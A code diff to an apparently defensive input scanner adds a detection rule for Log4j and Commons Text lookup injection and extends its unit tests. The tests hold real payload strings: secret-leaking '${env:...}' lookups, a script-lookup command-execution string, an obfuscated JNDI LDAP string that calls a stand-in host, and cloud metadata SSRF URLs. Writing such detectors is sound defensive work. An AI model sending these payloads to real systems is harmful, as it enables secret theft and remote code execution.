@@ -129,6 +129,7 @@ const CODE_RULES: &[&str] = &[
     "xss-100",
     "xss-120",
     "jndi-100",
+    "jndi-110",
     "ssrf-100",
     "encoding-100",
     "encoding-110",
@@ -2882,7 +2883,7 @@ fn jndi(folded: &str) -> Option<Hit> {
     let wrapped = WRAPPED
         .get_or_init(|| {
             regex::Regex::new(
-                r"\$\{(?:date:'([^']*)'|(?:[a-z]*:)*?(?:[^${}:]*:-)?'?([^${}:']*)'?)\}",
+                r"\$\{(?:date:'([^']*)'|(?:[a-z0-9_.]*:)*?(?:[^${}:]*:-)?'?([^${}:']*)'?)\}",
             )
             .ok()
         })
@@ -2898,14 +2899,69 @@ fn jndi(folded: &str) -> Option<Hit> {
         }
         text = next;
     }
-    (text.contains("${jndi:")
+    if text.contains("${jndi:")
         || text.contains("jndi:ldap")
         || text.contains("jndi:rmi")
-        || text.contains("jndi:dns"))
-    .then_some(Hit {
-        rule: "jndi-100",
-        class: Class::Jndi,
-    })
+        || text.contains("jndi:dns")
+    {
+        return Some(Hit {
+            rule: "jndi-100",
+            class: Class::Jndi,
+        });
+    }
+    // As written: unwrapping above takes a lookup's name off with its braces.
+    lookup_prefix(folded)
+}
+
+/// A Log4j or Apache Commons Text lookup other than JNDI (`jndi-110`): `${env:AWS_SECRET…}`,
+/// `${sys:user.home}`, `${ctx:…}` write a secret into a log or, inside a name, into a DNS
+/// query; Commons Text's `${script:javascript:…}`, `${dns:…}`, `${url:…}` run or fetch
+/// (CVE-2022-42889). A shell's `${HOME}` or a template's `${name}` has no lookup name
+/// and colon; `${lower:…}`, `${upper:…}` and `${date:…}` change only text, and count as
+/// pieces of a wrapped `jndi` above.
+fn lookup_prefix(text: &str) -> Option<Hit> {
+    const LOOKUPS: &[&str] = &[
+        "env",
+        "sys",
+        "ctx",
+        "main",
+        "map",
+        "sd",
+        "k8s",
+        "spring",
+        "docker",
+        "bundle",
+        "java",
+        "jvmrunargs",
+        "log4j",
+        "marker",
+        "web",
+        "event",
+        "script",
+        "dns",
+        "url",
+        "file",
+        "const",
+        "base64",
+        "base64decoder",
+        "base64encoder",
+        "xml",
+        "properties",
+        "resourcebundle",
+        "urlencoder",
+        "urldecoder",
+        "localhost",
+    ];
+    text.match_indices("${")
+        .any(|(at, _)| {
+            let rest = text[at + 2..].trim_start();
+            rest.split_once(':')
+                .is_some_and(|(name, _)| LOOKUPS.contains(&name.trim()))
+        })
+        .then_some(Hit {
+            rule: "jndi-110",
+            class: Class::Jndi,
+        })
 }
 
 /// A URL value whose host is loopback, private, link-local, unspecified or a cloud metadata
@@ -3635,6 +3691,13 @@ mod tests {
         ("http://169.254.169.254/latest/meta-data/", "ssrf"),
         ("http://169.254.169.254.nip.io/latest/", "ssrf"),
         ("http://localhost./", "ssrf"),
+        ("${env:AWS_SECRET_ACCESS_KEY}", "jndi"),
+        ("${sys:user.home}", "jndi"),
+        (
+            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+            "jndi",
+        ),
+        ("${j${k8s:k5:-ND}i:ldap://x.example/a}", "jndi"),
         (
             "http://metadata.google.internal./computeMetadata/v1/",
             "ssrf",
@@ -4550,6 +4613,7 @@ mod tests {
             // `or`/`and` before a self-comparison, a comment between spaces, an HTML
             // comment, a prose word after text.
             "x=x",
+            "${lower:ABC}",
             "Took 2 tablets; return to clinic in 2 weeks",
             "Cost $10; $in stock",
             "a == b or c == d",
